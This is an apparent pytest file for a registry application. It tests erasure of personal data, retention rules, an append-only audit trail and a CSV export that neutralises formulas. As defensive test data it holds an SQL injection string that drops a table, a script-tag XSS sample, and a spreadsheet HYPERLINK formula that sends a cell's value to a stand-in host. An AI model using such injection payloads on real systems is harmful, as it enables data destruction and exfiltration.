"""Personal data and the audit trail: erasure on request and by retention, an append-only trail
exported by period, and hostile text stored verbatim.

Every test runs on SQLite (foreign keys on) and on PostgreSQL (the `engine` fixture): ON DELETE
SET NULL must work on both.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from sqlalchemy.engine import Engine
from sqlmodel import select

from xchange.accounts.auth import authenticate
from xchange.cli import cli
from xchange.config import PROJECT_ROOT
from xchange.db.engine import LOCAL_ADMIN_EMAIL, read_session, write_session
from xchange.errors import NotFound, PermissionDenied, SignInRefused
from xchange.exports import audit
from xchange.kpi import sums as kpi
from xchange.models import AuditEvent, Exchange, Person, Programme, Role, User, utcnow
from xchange.programme.partnerships import add_partnership
from xchange.register import privacy, service
from xchange.register.service import ExchangeIn

TODAY = date(2025, 6, 30)
NAME = "Jane Doe"


def admin_of(session: Any) -> User:
    user: User = session.exec(select(User).where(User.email == LOCAL_ADMIN_EMAIL)).one()
    return user


def exchange_data(n: int, partnership: str = "ALPHA", **changes: Any) -> ExchangeIn:
    """The n-th exchange: a completed five-day stay, each with its own visitor."""
    values: dict[str, Any] = {
        "partnership": partnership,
        "reference": f"{partnership}-{n:03d}",
        "status": "completed",
        "start_date": date(2025, 3, 10),
        "end_date": date(2025, 3, 14),
        "visitor_organisation": f"Visitor {partnership} {n}",
        "visitor_type": "cluster organisation",
        "visitor_country": "DE",
        "visitor_is_sme": n % 2 == 0,
        "visitor_community": "partner",
        "host_organisation": "Beta Hub",
        "host_type": "university",
        "host_country": "FR",
        "host_is_sme": False,
        "host_community": "external",
        "representative": NAME,
    }
    return ExchangeIn(**{**values, **changes})


def setup(engine: Engine, *, alpha_end: date = date(2026, 8, 31)) -> None:
    with write_session(engine) as session:
        admin = admin_of(session)
        for acronym, end in (("ALPHA", alpha_end), ("BETA", date(2026, 8, 31))):
            add_partnership(
                session=session,
                actor=admin,
                acronym=acronym,
                name=f"{acronym} partnership",
                action_start=date(2018, 9, 1) if end.year < 2024 else date(2024, 9, 1),
                action_end=end,
            )


def create(engine: Engine, data: ExchangeIn) -> Exchange:
    with write_session(engine) as session:
        return service.create_exchange(
            session=session, actor=admin_of(session), data=data, today=TODAY
        )


def text_occurrences(engine: Engine, needle: str) -> list[str]:
    """`table.column` for every text (or JSON) value of every table that contains `needle`."""
    found = []
    with engine.connect() as connection:
        metadata = sa.MetaData()
        metadata.reflect(bind=connection)
        for table in metadata.sorted_tables:
            for column in table.columns:
                if not isinstance(column.type, sa.String | sa.Text | sa.JSON):
                    continue
                for (value,) in connection.execute(sa.select(column)):
                    text = value if isinstance(value, str) else json.dumps(value)
                    if value is not None and needle.lower() in text.lower():
                        found.append(f"{table.name}.{column.name}")
    return found


def headline(engine: Engine) -> dict[str, Any]:
    with read_session(engine) as session:
        return kpi.headline(session, as_of=TODAY).as_dict()


# --- erasure on request ------------------------------------------------------------------------


def test_erasing_a_person_removes_the_name_everywhere(engine: Engine) -> None:
    setup(engine)
    ids = [create(engine, exchange_data(n)).id for n in range(3)]
    create(engine, exchange_data(9, representative="John Roe"))
    assert text_occurrences(engine, NAME) == ["person.name"]
    before = headline(engine)
    with write_session(engine) as session:
        report = privacy.erase_person(session=session, actor=admin_of(session), name=NAME)
    assert (len(report.person_ids), report.exchanges, report.mentions) == (1, 3, 0)
    assert text_occurrences(engine, NAME) == []
    with read_session(engine) as session:
        kept = session.exec(select(Exchange).order_by(sa.column("id"))).all()
        assert len(kept) == 4  # the exchanges stay
        assert [e.representative_id for e in kept if e.id in ids] == [None, None, None]
        assert [p.name for p in session.exec(select(Person)).all()] == ["John Roe"]
        [event] = session.exec(select(AuditEvent).where(AuditEvent.action == "erase")).all()
    assert (event.entity, event.entity_id) == ("person", report.person_ids[0])
    assert event.changes["exchange_ids"] == ids
    assert headline(engine) == before  # the KPIs stay


def test_several_persons_with_the_name_are_all_erased(engine: Engine) -> None:
    setup(engine)
    create(engine, exchange_data(1))
    with write_session(engine) as session:
        session.add(Person(name=NAME, contact="jane@example.org"))
    with write_session(engine) as session:
        report = privacy.erase_person(session=session, actor=admin_of(session), name=NAME)
    assert len(report.person_ids) == 2
    assert "Erased 2 persons" in report.summary()
    assert text_occurrences(engine, NAME) == []
    assert text_occurrences(engine, "jane@example.org") == []


def test_an_unknown_name_erases_nothing(engine: Engine) -> None:
    setup(engine)
    create(engine, exchange_data(1))
    with pytest.raises(NotFound), write_session(engine) as session:
        privacy.erase_person(session=session, actor=admin_of(session), name="Jane")  # not exact
    assert text_occurrences(engine, NAME) == ["person.name"]


def test_only_admins_erase(engine: Engine) -> None:
    setup(engine)
    create(engine, exchange_data(1))
    with write_session(engine) as session:
        session.add(User(email="coord@x.eu", role=Role.COORDINATOR.value))
    with pytest.raises(PermissionDenied), write_session(engine) as session:
        coordinator = session.exec(select(User).where(User.email == "coord@x.eu")).one()
        privacy.erase_person(session=session, actor=coordinator, name=NAME)
    assert text_occurrences(engine, NAME) == ["person.name"]


def test_a_name_left_in_free_text_is_reported(engine: Engine) -> None:
    setup(engine)
    create(engine, exchange_data(1, notes=f"{NAME} travels by train"))
    with write_session(engine) as session:
        report = privacy.erase_person(session=session, actor=admin_of(session), name=NAME)
    assert report.mentions == 1
    assert "edit them by hand" in report.summary()


# --- retention ---------------------------------------------------------------------------------


def test_retention_erases_only_representatives_of_long_ended_actions(engine: Engine) -> None:
    # ALPHA's action ended on 31 August 2019; BETA's runs to 2026.
    setup(engine, alpha_end=date(2019, 8, 31))
    with write_session(engine) as session:
        programme = session.get(Programme, 1)
        assert programme is not None
        programme.retention_months = 60
        session.add(programme)
    old = date(2019, 3, 14)
    start = date(2019, 3, 11)
    create(engine, exchange_data(1, representative="Old Only", start_date=start, end_date=old))
    create(engine, exchange_data(2, representative="Both", start_date=start, end_date=old))
    create(engine, exchange_data(3, partnership="BETA", representative="Both"))
    create(engine, exchange_data(4, partnership="BETA", representative="New Only"))

    def erase(today: date) -> list[str]:
        with write_session(engine) as session:
            privacy.erase_expired_representatives(
                session=session, actor=admin_of(session), today=today
            )
        with read_session(engine) as session:
            return sorted(p.name for p in session.exec(select(Person)).all())

    # 31 August 2024 is exactly 60 months after ALPHA's end: not yet "more than".
    assert erase(date(2024, 8, 31)) == ["Both", "New Only", "Old Only"]
    assert erase(date(2024, 9, 1)) == ["Both", "New Only"]
    assert text_occurrences(engine, "Old Only") == []


# --- the audit trail ---------------------------------------------------------------------------

FORBIDDEN = [
    re.compile(r"update\(\s*AuditEvent"),
    re.compile(r"delete\(\s*AuditEvent"),
    re.compile(r"UPDATE\s+audit_event", re.IGNORECASE),
    re.compile(r"DELETE\s+FROM\s+audit_event", re.IGNORECASE),
]


def orm_deletes_of_audit_rows(source: str) -> list[int]:
    """Lines of `session.delete(x)` calls in a function that touches `AuditEvent` or whose
    argument is named like an audit row (`event`, `audit...`)."""
    lines = []
    for function in ast.walk(ast.parse(source)):
        if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        body = ast.unparse(function)
        for call in ast.walk(function):
            if not (
                isinstance(call, ast.Call)
                and isinstance(call.func, ast.Attribute)
                and call.func.attr == "delete"
                and ast.unparse(call.func.value).endswith("session")
            ):
                continue
            argument = ast.unparse(call.args[0]) if call.args else ""
            if "AuditEvent" in body or re.search(r"event|audit", argument, re.IGNORECASE):
                lines.append(call.lineno)
    return lines


def test_no_code_path_updates_or_deletes_audit_rows() -> None:
    """The trail is append-only: no statement in the package changes or removes an event."""
    offenders = []
    for path in sorted((PROJECT_ROOT / "xchange").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for pattern in FORBIDDEN:
            for match in pattern.finditer(text):
                line = text.count("\n", 0, match.start()) + 1
                offenders.append(f"{path.name}:{line}: {match.group(0)}")
        offenders += [
            f"{path.name}:{line}: session.delete" for line in orm_deletes_of_audit_rows(text)
        ]
    assert offenders == []


@pytest.mark.parametrize(
    "sample",
    [
        "def f(session):\n    session.execute(sa.update(AuditEvent).values(action='x'))",
        "def f(session):\n    session.execute(sa.delete(AuditEvent))",
        "def f(session):\n    session.exec(text('DELETE FROM audit_event'))",
        "def f(session):\n    e = session.get(AuditEvent, 1)\n    session.delete(e)",
        "def f(session, event):\n    session.delete(event)",
    ],
)
def test_the_scan_would_see_an_offender(sample: str) -> None:
    assert any(p.search(sample) for p in FORBIDDEN) or orm_deletes_of_audit_rows(sample)


def test_audit_export_of_a_period(engine: Engine, tmp_path: Path) -> None:
    setup(engine)
    created = create(engine, exchange_data(1))
    with write_session(engine) as session:
        session.add(
            AuditEvent(
                actor_label="someone@x.eu",
                entity="exchange",
                entity_id=created.id,
                action="update",
                at=utcnow() - timedelta(days=400),
            )
        )
    # The period is in UTC days (not the machine's time zone); from yesterday, in case
    # midnight passed since the writes.
    today = utcnow().date()
    with read_session(engine) as session:
        events = audit.events_between(
            session=session,
            actor=admin_of(session),
            date_from=today - timedelta(days=1),
            date_to=today,
        )
    rows = list(csv.reader(io.StringIO(audit.audit_csv(events).decode("utf-8-sig"))))
    assert rows[0] == ["at", "actor", "entity", "entity_id", "action", "changes"]
    assert "someone@x.eu" not in {row[1] for row in rows[1:]}  # outside the period
    create_row = next(
        row for row in rows[1:] if row[2:5] == ["exchange", str(created.id), "create"]
    )
    assert create_row[1:5] == [LOCAL_ADMIN_EMAIL, "exchange", str(created.id), "create"]
    assert json.loads(create_row[5])["reference"] == [None, "ALPHA-001"]
    assert create_row[0].endswith("+00:00")


def test_the_audit_export_neutralises_formulas(engine: Engine) -> None:
    setup(engine)
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Sign in again")'
    with write_session(engine) as session:
        # As stored before migration 0007: the text typed into the sign-in Email field.
        session.add(AuditEvent(actor_label=formula, entity="user", action="sign_in_failed"))
        session.add(AuditEvent(actor_label="+1@x.eu", entity="user", action="-refused"))
    with pytest.raises(SignInRefused), read_session(engine) as session:
        authenticate(session=session, email=formula, password="not the password")
    today = utcnow().date()  # the period is in UTC days; from yesterday, in case midnight passed
    with read_session(engine) as session:
        events = audit.events_between(
            session=session,
            actor=admin_of(session),
            date_from=today - timedelta(days=1),
            date_to=today,
        )
    rows = list(csv.reader(io.StringIO(audit.audit_csv(events).decode("utf-8-sig"))))
    assert [row[1] for row in rows[-3:]] == [f"'{formula}", "'+1@x.eu", "unknown email"]
    assert rows[-2][4] == "'-refused"
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- hostile input -----------------------------------------------------------------------------

SQL = "'); DROP TABLE exchange; --"


def test_hostile_text_is_stored_verbatim_and_harms_nothing(engine: Engine) -> None:
    setup(engine)
    script = "<script>alert(1)</script>"
    data = exchange_data(
        1,
        reference=f"R{SQL}"[:80],
        visitor_organisation=f"Visitor {SQL}",
        host_organisation=f'Host "{SQL}" \\ %_',
        representative=f"Robert{SQL}",
        notes=f"{script} {SQL}",
        status="confirmed",
    )
    created = create(engine, data)
    assert created.id is not None
    with write_session(engine) as session:
        cancelled = service.cancel_exchange(
            session=session,
            actor=admin_of(session),
            exchange_id=created.id,
            expected_version=1,
            reason=f"Reason {SQL}",
        )
    with read_session(engine) as session:
        stored = session.get(Exchange, created.id)
        assert stored is not None
        back = service.exchange_in(session, stored)
    assert back.reference == data.reference
    assert back.visitor_organisation == data.visitor_organisation
    assert back.host_organisation == data.host_organisation
    assert back.representative == data.representative
    assert back.notes == f"{script} {SQL}"  # verbatim: escaping is the page's job
    assert back.cancellation_reason == f"Reason {SQL}" == cancelled.cancellation_reason
    with engine.connect() as connection:
        names = set(sa.inspect(connection).get_table_names())
        assert {"exchange", "person", "organisation", "audit_event"} <= names
        assert connection.execute(sa.text("SELECT count(*) FROM exchange")).scalar() == 1
    # And erasing a hostile name works like any other.
    with write_session(engine) as session:
        privacy.erase_person(session=session, actor=admin_of(session), name=f"Robert{SQL}")
    assert text_occurrences(engine, f"Robert{SQL}") == []


# --- the commands ------------------------------------------------------------------------------


def test_cli_erase_person_and_audit(sqlite_url: str, tmp_path: Path) -> None:
    from xchange.db.engine import make_engine

    engine = make_engine(sqlite_url)
    try:
        setup(engine)
        create(engine, exchange_data(1))
    finally:
        engine.dispose()
    runner = CliRunner()
    result = runner.invoke(cli, ["--db", sqlite_url, "erase-person", NAME])
    assert result.exit_code == 0, result.output
    assert "Erased 1 person" in result.stdout
    again = runner.invoke(cli, ["--db", sqlite_url, "erase-person", NAME])
    assert again.exit_code == 1 and "no representative" in again.stderr
    expired = runner.invoke(cli, ["--db", sqlite_url, "erase-person", "--expired"])
    assert expired.exit_code == 0, expired.output
    both = runner.invoke(cli, ["--db", sqlite_url, "erase-person", NAME, "--expired"])
    assert both.exit_code == 2
    today = utcnow().date()  # the period is in UTC days; from yesterday, in case midnight passed
    period = ["--from", str(today - timedelta(days=1)), "--to", str(today)]
    out = tmp_path / "audit.csv"
    result = runner.invoke(cli, ["--db", sqlite_url, "audit", *period, "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8-sig")
    assert ",person," in text and ",erase," in text
    assert NAME not in text
